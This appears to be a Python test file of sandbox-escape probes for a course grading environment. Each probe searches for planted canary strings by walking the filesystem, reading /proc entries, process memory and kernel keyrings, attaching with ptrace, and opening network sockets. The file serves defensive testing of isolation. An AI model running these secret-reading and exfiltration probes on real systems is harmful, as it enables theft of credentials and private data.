"""Attacks that read what is not theirs: each prints whatever it finds that looks like a canary."""

LOOK = r"""
import re
def look(data):
    for found in set(re.findall(rb"CANARY-[0-9a-f]{32}", data)):
        print("SUCCEEDED: read", found.decode())
def look_at(path):
    try:
        with open(path, "rb") as file:
            look(file.read(1_000_000))
    except OSError:
        pass
"""

ATTACKS = {
    "reads-the-exchange": LOOK
    + r"""
import os
for top in (EXCHANGE, "/srv", "/opt", "/var", "/home", "/mnt", "/media"):
    for folder, folders, files in os.walk(top):
        for name in files:
            look_at(os.path.join(folder, name))
attempt("see the exchange", os.stat, EXCHANGE)
attempt("see a disk", os.stat, "/srv/disk")
""",
    "reads-files": LOOK
    + r"""
import os, sys
for top in (COURSE, HOME_FOLDER, *("/" + name for name in os.listdir("/") if name not in ("usr", "proc"))):
    for folder, folders, files in os.walk(top):
        if "site-packages" in folder or folder.startswith(sys.base_prefix):
            folders.clear()
            continue
        for name in files:
            look_at(os.path.join(folder, name))
look(repr(dict(os.environ)).encode())
for path in ("gradebook.db", "course.secret", "solutions/ps01/checks.py", "nbgrader_config.py", "records"):
    attempt("see " + path, os.stat, COURSE + "/" + path)
""",
    "reads-proc": LOOK
    + r"""
import glob, os
for process in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps", "mountinfo", "stack", "task/1/environ"):
        look_at(f"{process}/{name}")
    for name in ("cwd", "root", "exe"):
        for inner in (COURSE, HOME_FOLDER):
            attempt(f"reach the course through {process}/{name}", os.listdir, f"{process}/{name}{inner}")
    for file in glob.glob(f"{process}/fd/*"):
        try:
            where = os.readlink(file)
        except OSError:
            continue
        if where.startswith("/") and where != "/dev/null" and not where.startswith(("/proc", "pipe")):
            look_at(file)
for name in ("keys", "key-users", "kcore", "kallsyms", "sysvipc/shm", "net/unix", "net/tcp"):
    look_at("/proc/" + name)
""",
    "reads-own-memory": LOOK
    + r"""
import re
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if line.split()[1].startswith("rw") and end - start < 200_000_000:
            memory.seek(start)
            try:
                look(memory.read(end - start))
            except OSError:
                pass
""",
    "reads-others-memory": LOOK
    + r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attach(pid):
    if libc.ptrace(16, pid, None, None):
        raise OSError(ctypes.get_errno(), "ptrace")
def steal(pid):
    return libc.syscall(438, os.pidfd_open(pid), 3, 0) if os.pidfd_open(pid) >= 0 else None
for pid in range(1, 40):
    if pid != os.getpid():
        attempt(f"trace {pid}", attach, pid)
        attempt(f"take a file from {pid}", steal, pid)
        attempt(f"open the memory of {pid}", open, f"/proc/{pid}/mem", "rb")
""",
    "reads-the-keyring": LOOK
    + r"""
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
_, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
for keyring in (-1, -2, -3, -4, -5):
    ids = (ctypes.c_int32 * 1000)()
    size = libc.syscall(keyctl, 11, keyring, ids, ctypes.sizeof(ids))
    for key in ids[: max(size, 0) // 4]:
        buffer = ctypes.create_string_buffer(10_000)
        if libc.syscall(keyctl, 11, key, buffer, len(buffer)) > 0:
            look(buffer.raw)
""",
    "sends-it-out": LOOK
    + r"""
import socket
def say(kind, address, family=socket.AF_INET):
    with socket.socket(family, kind) as out:
        out.settimeout(0.3)
        out.connect(address)
        return out.send(b"the tests")
attempt("TCP to this machine", say, socket.SOCK_STREAM, ("127.0.0.1", PORT))
attempt("UDP to this machine", say, socket.SOCK_DGRAM, ("127.0.0.1", PORT))
attempt("TCP elsewhere", say, socket.SOCK_STREAM, ("192.0.2.1", 80))
attempt("UDP elsewhere", say, socket.SOCK_DGRAM, ("192.0.2.1", 53))
attempt("IPv6", say, socket.SOCK_STREAM, ("::1", PORT), socket.AF_INET6)
attempt("an abstract socket", say, socket.SOCK_STREAM, "\0" + MARK, socket.AF_UNIX)
attempt("a socket in a folder", say, socket.SOCK_STREAM, COURSE + "/" + "ear", socket.AF_UNIX)
attempt("DNS", socket.getaddrinfo, "course.invalid", 80)
attempt("virtual machines", socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)
attempt("the kernel's cryptography", socket.socket, socket.AF_ALG, socket.SOCK_SEQPACKET)
attempt("raw packets", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
    netlink.bind((0, 0))
others = [name for _, name in socket.if_nameindex() if name != "lo"]
assert not others, f"SUCCEEDED: see {others}"
""",
}
